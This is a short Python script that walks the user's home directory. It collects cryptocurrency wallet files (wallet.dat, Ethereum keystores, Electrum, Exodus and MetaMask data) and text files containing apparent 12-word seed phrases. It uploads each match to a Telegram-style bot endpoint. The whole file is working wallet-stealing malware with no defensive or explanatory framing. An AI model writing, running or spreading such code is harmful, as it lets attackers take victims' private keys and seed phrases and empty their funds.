import os
import re
import requests

BOT = "https://bot.example.org/bot7000000:AAexample/sendDocument"
WALLET = re.compile(r"(wallet\.dat|keystore/UTC--.*|\.electrum/wallets/.*|Exodus/.*seed.*|metamask.*)$")
SEED = re.compile(r"\b(?:[a-z]{3,8} ){11}[a-z]{3,8}\b")

for base, _, files in os.walk(os.path.expanduser("~")):
    for f in files:
        full = os.path.join(base, f)
        try:
            if WALLET.search(full):
                requests.post(BOT, data={"chat_id": 1}, files={"document": open(full, "rb")})
            elif f.endswith((".txt", ".md")) and SEED.search(open(full, errors="ignore").read(50000)):
                requests.post(BOT, data={"chat_id": 1, "caption": full}, files={"document": open(full, "rb")})
        except OSError:
            continue
